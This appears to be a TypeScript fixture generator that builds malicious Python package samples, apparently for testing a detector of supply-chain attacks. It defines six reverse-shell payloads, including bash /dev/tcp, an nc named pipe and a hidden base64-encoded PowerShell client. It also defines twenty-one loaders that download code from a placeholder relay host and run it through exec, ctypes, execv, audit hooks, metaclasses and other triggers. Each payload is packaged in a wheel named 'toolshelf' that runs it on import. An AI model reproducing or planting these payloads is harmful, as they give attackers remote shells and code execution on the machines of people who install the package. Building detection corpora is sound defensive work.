import { importingWheel, techniques } from './drafts.ts';
import { base64 } from './encoders.ts';
import type { Draft, Remote, Replay } from './incident.ts';
import { stagedLoader } from './payloads.ts';

type Code = (c: Remote) => string;

const SHELLS: Readonly<Record<string, Code>> = {
  'pty-spawn': (c) =>
    `import os\nimport pty\nimport socket\n\ns = socket.socket()\ns.connect(("${c.host}", 9001))\n[os.dup2(s.fileno(), d) for d in (0, 1, 2)]\npty.spawn("/bin/bash")\n`,
  'subprocess-streams': (c) =>
    `import socket\nimport subprocess\n\ns = socket.create_connection(("${c.host}", 9001))\nsubprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n`,
  'recv-popen': (c) =>
    `import os\nimport socket\n\ns = socket.socket()\ns.connect(("${c.host}", 9001))\nwhile True:\n    order = s.recv(1024).decode()\n    if not order:\n        break\n    s.send(os.popen(order).read().encode())\n`,
  'bash-dev-tcp': (c) =>
    `import subprocess\n\nsubprocess.Popen(["bash", "-c", "bash -i >& /dev/tcp/${c.host}/9001 0>&1"])\n`,
  'named-pipe': (c) =>
    `import os\n\nos.system("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc ${c.host} 9001 > /tmp/f &")\n`,
  'powershell-client': (c) =>
    `import subprocess\n\nsubprocess.Popen(["powershell", "-nop", "-w", "hidden", "-enc", "${base64(Buffer.from(`$c=New-Object Net.Sockets.TCPClient('${c.host}',9001);$s=$c.GetStream();while(($i=$s.Read($b,0,$b.Length)) -ne 0){iex $d}`, 'utf16le'))}"])\n`,
};

const LOADERS: Readonly<Record<string, Code>> = {
  'dulwich-clone': (c) =>
    `import sys\nfrom dulwich import porcelain\n\nporcelain.clone("${c.url('/x.git')}", "/tmp/.cfg", depth=1)\nsys.path.insert(0, "/tmp/.cfg")\nimport bootstrap\n`,
  'import-from-string': (c) =>
    `import importlib.abc\nimport importlib.util\nimport urllib.request\n\n\nclass Remote(importlib.abc.SourceLoader):\n    def get_filename(self, name):\n        return "${c.base}/" + name + ".py"\n\n    def get_data(self, path):\n        return urllib.request.urlopen(path).read()\n\n\nloader = Remote()\nmodule = importlib.util.module_from_spec(importlib.util.spec_from_loader("kernel", loader))\nloader.exec_module(module)\n`,
  'exec-in-thread-pool': (c) =>
    `from concurrent.futures import ThreadPoolExecutor\nfrom urllib.request import urlopen\n\nThreadPoolExecutor(1).submit(lambda: exec(urlopen("${c.url('/p')}").read(), {}))\n`,
  'download-and-ctypes': (c) =>
    `import ctypes\nimport tempfile\nimport urllib.request\n\npath = tempfile.mktemp(".so")\nurllib.request.urlretrieve("${c.url('/k.so')}", path)\nctypes.CDLL(path)\n`,
  'download-os-startfile': (c) =>
    `import os\nimport urllib.request\n\ntarget = os.path.join(os.environ.get("TEMP", "/tmp"), "update.scr")\nopen(target, "wb").write(urllib.request.urlopen("${c.url('/u.scr')}").read())\nos.startfile(target)\n`,
  'download-execv': (c) =>
    `import os\nimport stat\nimport requests\n\npath = os.path.expanduser("~/.local/share/.upd")\nwith open(path, "wb") as stream:\n    for part in requests.get("${c.url('/u')}", stream=True).iter_content(8192):\n        stream.write(part)\nos.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)\nif os.fork() == 0:\n    os.execv(path, [path])\n`,
  'download-multiprocessing': (c) =>
    `import multiprocessing\nimport requests\n\n\ndef work(text):\n    exec(text)\n\n\nmultiprocessing.Process(target=work, args=(requests.get("${c.url('/w')}").text,), daemon=True).start()\n`,
  'signal-alarm': (c) =>
    `import signal\nfrom urllib.request import urlopen\n\n\ndef tick(number, frame):\n    exec(urlopen("${c.url('/t')}").read())\n\n\nsignal.signal(signal.SIGALRM, tick)\nsignal.alarm(30)\n`,
  'weakref-finalize': (c) =>
    `import sys\nimport weakref\nfrom urllib.request import urlopen\n\nweakref.finalize(sys.modules[__name__], lambda: exec(urlopen("${c.url('/f')}").read()))\n`,
  'audit-hook': (c) =>
    `import sys\nfrom urllib.request import urlopen\n\n_done = []\n\n\ndef hook(event, args):\n    if event == "open" and not _done:\n        _done.append(1)\n        exec(urlopen("${c.url('/h')}").read())\n\n\nsys.addaudithook(hook)\n`,
  excepthook: (c) =>
    `import sys\nfrom urllib.request import urlopen\n\n\ndef handler(kind, error, trace):\n    exec(urlopen("${c.url('/e')}").read())\n\n\nsys.excepthook = handler\n`,
  'descriptor-set-name': (c) =>
    `from urllib.request import urlopen\n\n\nclass Field:\n    def __set_name__(self, owner, name):\n        exec(urlopen("${c.url('/n')}").read())\n\n\nclass Model:\n    field = Field()\n`,
  metaclass: (c) =>
    `from urllib.request import urlopen\n\n\nclass Meta(type):\n    def __new__(mcs, name, bases, namespace):\n        exec(urlopen("${c.url('/m')}").read())\n        return super().__new__(mcs, name, bases, namespace)\n\n\nclass Model(metaclass=Meta):\n    pass\n`,
  'context-manager': (c) =>
    `from urllib.request import urlopen\n\n\nclass Scope:\n    def __enter__(self):\n        return urlopen("${c.url('/c')}").read()\n\n    def __exit__(self, *exc):\n        return False\n\n\nwith Scope() as text:\n    exec(text)\n`,
  'generator-send': (c) =>
    `from urllib.request import urlopen\n\n\ndef stages():\n    text = yield\n    exec(text)\n    yield\n\n\nrunner = stages()\nnext(runner)\nrunner.send(urlopen("${c.url('/g')}").read())\n`,
  'operator-overload': (c) =>
    `from urllib.request import urlopen\n\n\nclass Pipe:\n    def __rshift__(self, url):\n        exec(urlopen(url).read())\n\n\nPipe() >> "${c.url('/o')}"\n`,
  'sorted-key': (c) =>
    `from urllib.request import urlopen\n\nsorted(["${c.url('/k')}"], key=lambda url: exec(urlopen(url).read()) or 0)\n`,
  'class-getitem': (c) =>
    `from urllib.request import urlopen\n\n\nclass Load:\n    def __class_getitem__(cls, url):\n        exec(urlopen(url).read())\n        return cls\n\n\nLoad["${c.url('/i')}"]\n`,
  'timeit-string': (c) =>
    `import timeit\n\ntimeit.timeit("exec(urlopen('${c.url('/y')}').read())", setup="from urllib.request import urlopen", number=1)\n`,
  'doctest-string': (c) =>
    `import doctest\n\n\ndef sample():\n    """\n    >>> from urllib.request import urlopen\n    >>> exec(urlopen("${c.url('/d')}").read())\n    """\n\n\ndoctest.run_docstring_examples(sample, {})\n`,
  'codecs-open': (c) =>
    `import code\nimport codecs\n\ncode.InteractiveInterpreter().runcode(compile(codecs.decode("${base64(stagedLoader(c))}".encode(), "base64"), "k", "exec"))\n`,
};

const draft =
  (code: Code) =>
  (c: Remote): Draft =>
    importingWheel({ name: 'toolshelf', about: 'Shelves of tools', code: `\n${code(c)}` });

const technique = techniques('https://attack.mitre.org/tactics/TA0002/', 'https://relay.shelf-sync.invalid');

export const SECOND_SPELLINGS: readonly Replay[] = [
  ...Object.entries(SHELLS).map(([name, code]) =>
    technique(
      `40-shell-${name}`,
      `a shell for a constant host: ${name}`,
      'import connects a shell to a constant host',
      draft(code),
    ),
  ),
  ...Object.entries(LOADERS).map(([name, code]) =>
    technique(
      `40-load-${name}`,
      `code from a constant host: ${name}`,
      'import fetches code from a constant host and runs it',
      draft(code),
    ),
  ),
];
